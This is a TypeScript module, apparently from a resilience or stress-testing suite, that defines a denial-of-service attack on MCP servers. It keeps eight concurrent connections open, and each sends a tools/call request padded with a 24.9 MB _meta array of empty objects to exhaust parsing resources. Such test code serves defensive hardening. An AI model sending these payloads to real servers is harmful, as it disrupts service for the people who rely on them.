/** Calls over MCP whose `_meta` is 24.9 MB of small objects, eight at once. */
import type { Attack } from '../attack.ts';
import { gone, head, keepUp, open } from '../wire/http-bytes.ts';

const BODY = Buffer.from(
  `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"_meta":{"x":[${'{},'.repeat(8_300_000)}0]},` +
    '"name":"Sandbox_WhoAmI","arguments":{}}}',
);
const HEADERS = {
  'content-type': 'application/json',
  accept: 'application/json, text/event-stream',
  'content-length': BODY.length,
};

export const attack: Attack = {
  name: 'MCP calls with 24.9 MB of small objects',
  async run({ mallory }, signal) {
    await keepUp(8, signal, async () => {
      const socket = open(mallory.url);
      socket.write(head({ ...mallory, path: '/mcp', headers: HEADERS }));
      socket.write(BODY);
      socket.once('data', () => socket.destroy());
      await gone(socket, signal);
    });
  },
};
